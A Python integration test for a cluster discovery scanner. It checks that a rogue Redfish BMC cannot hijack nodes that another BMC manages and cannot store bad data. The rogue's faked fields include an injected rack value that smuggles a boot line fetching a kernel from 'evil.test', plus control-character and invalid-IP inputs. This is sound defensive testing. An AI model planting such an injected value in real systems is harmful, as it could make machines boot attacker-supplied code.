"""A rogue BMC cannot take over nodes that another BMC manages, nor write what an admin could not.

The honest BMC and the rogue are both sushy-tools emulators.  The rogue's
systems claim the honest nodes' UUID and MAC; it is scanned through
tests/helpers/redfish_proxy.py, which makes it lie where the emulator cannot (a mock
of a lying BMC): a rack with a line break, an IP address that is not one,
a manufacturer with control characters.
"""

import pytest

from core.power_targets import TARGETS_SQL
from sync.discovery.scanner import DiscoveryScanner
from tests.helpers.api import create, credential, problem_of, scan
from tests.helpers.keys import box
from tests.helpers.redfish import RedfishEmulator, fake_system
from tests.helpers.redfish_proxy import RedfishProxy
from tests.helpers.tasks import running

HONEST = [fake_system(1, "Off"), fake_system(2, "On")]
STOLEN_UUID = {**fake_system(91, "On"), "uuid": HONEST[0]["uuid"]}              # node 1's UUID, a MAC of its own
STOLEN_MAC = {**fake_system(92, "On"), "nics": [{"mac": HONEST[1]["nics"][0]["mac"]}]}  # node 2's MAC
NEW = fake_system(93, "On")                                                       # hardware no one knows yet
BAD_RACK = "R1\nkernel http://evil.test/vmlinuz"


def lie(path: str, body: dict) -> dict:
    if path.startswith("/redfish/v1/Chassis/"):
        body.setdefault("Location", {})["Placement"] = {"Rack": BAD_RACK, "RackOffset": 3}
    elif "/EthernetInterfaces/" in path and path.startswith("/redfish/v1/Systems/"):
        body["IPv4Addresses"] = [{"Address": "not-an-ip"}, {"Address": "10.9.9.9"}]
    elif path.startswith("/redfish/v1/Systems/") and path.count("/") == 4:
        body["Manufacturer"] = "Evil\r\nCorp"
    return body


@pytest.fixture
async def bmcs():
    honest = RedfishEmulator(HONEST).start()
    rogue = RedfishEmulator([STOLEN_UUID, STOLEN_MAC, NEW]).start()
    proxy = await RedfishProxy(rogue.url, rewrite=lie).start()
    yield honest, proxy
    await proxy.close()
    rogue.close()
    honest.close()


async def snapshot(conn, node_ids):
    return {
        "components": [dict(r) for r in await conn.fetch(
            "SELECT * FROM smd.components WHERE id = ANY($1) ORDER BY id", node_ids)],
        "systems": [dict(r) for r in await conn.fetch(
            "SELECT * FROM smd.redfish_systems WHERE component_id = ANY($1) ORDER BY component_id", node_ids)],
        "interfaces": [dict(r) for r in await conn.fetch(
            "SELECT * FROM smd.ethernet_interfaces WHERE component_id = ANY($1) ORDER BY id", node_ids)],
        "power": [dict(r) for r in await conn.fetch(
            "SELECT * FROM power.status WHERE node_id = ANY($1) ORDER BY node_id", node_ids)],
    }


async def test_a_rogue_bmc_cannot_take_over_nodes_or_store_what_an_admin_could_not(api, dsn, conn, bmcs):
    honest, rogue = bmcs
    cred = await credential(api)
    for name, address in (("honest", honest.url), ("rogue", rogue.url)):
        await create(api, "/discovery/v1/targets", {"metadata": {"id": name}, "spec": {
            "driver": "redfish", "address": address, "credentialId": cred}})
    async with running(DiscoveryScanner(dsn, box())):
        first = await scan(api, ["honest"])
        assert first["status"]["state"] == "completed", first
        owner = await conn.fetchval("SELECT id FROM smd.redfish_endpoints WHERE address = $1", honest.url)
        by_uuid = dict(await conn.fetch("SELECT uuid, component_id FROM smd.redfish_systems"))
        node1, node2 = by_uuid[HONEST[0]["uuid"]], by_uuid[HONEST[1]["uuid"]]
        before = await snapshot(conn, [node1, node2])

        result = await scan(api, ["rogue"])

    # The honest nodes are exactly as they were: parent, mapping, interfaces, power status.
    assert await snapshot(conn, [node1, node2]) == before
    targets = {r["id"]: r["bmc_id"] for r in await conn.fetch(TARGETS_SQL, [node1, node2])}
    assert targets == {node1: owner, node2: owner}
    assert not await conn.fetchval("SELECT true FROM smd.ethernet_interfaces WHERE mac = $1",
                                   STOLEN_UUID["nics"][0]["mac"])

    # The scan says so, naming each node and the endpoint that manages it.
    [host] = result["status"]["results"]
    assert host["state"] == "failed", host
    detail = host["detail"]
    for node in (node1, node2):
        assert f"conflict: node {node!r} is managed by endpoint {owner!r} ({honest.url})" in detail, detail

    # The new system is registered, with only what passes the admin API's own checks.
    [new_id] = [c for c in host["components"] if c in await conn.fetchval(
        "SELECT array_agg(component_id) FROM smd.redfish_systems WHERE uuid = $1", NEW["uuid"])]
    node = (await api.get(f"/hsm/v2/State/Components/{new_id}")).json()["spec"]
    assert node["location"]["rack"] is None and node["location"]["unit"] == 3
    nic = await conn.fetchrow("SELECT ip_addrs FROM smd.ethernet_interfaces WHERE mac = $1", NEW["nics"][0]["mac"])
    assert nic["ip_addrs"] == [{"ipAddress": "10.9.9.9", "network": ""}]
    assert await conn.fetchval("SELECT manufacturer FROM smd.redfish_systems WHERE component_id = $1", new_id) is None
    assert "'not-an-ip'" in detail and "rack" in detail
    # Nothing the rogue made up is stored anywhere.
    assert not await conn.fetchval("SELECT true FROM smd.ethernet_interfaces WHERE ip_addrs::text LIKE '%not-an-ip%'")
    assert not await conn.fetchval("SELECT true FROM smd.components WHERE rack ~ '[[:cntrl:]]'")
    assert not await conn.fetchval("SELECT true FROM smd.redfish_systems WHERE manufacturer ~ '[[:cntrl:]]'")

    # The rule is the admin API's own: an admin cannot write that rack either.
    problem_of(await api.patch(f"/hsm/v2/State/Components/{new_id}",
                               json={"spec": {"location": {"rack": BAD_RACK}}}), 422)
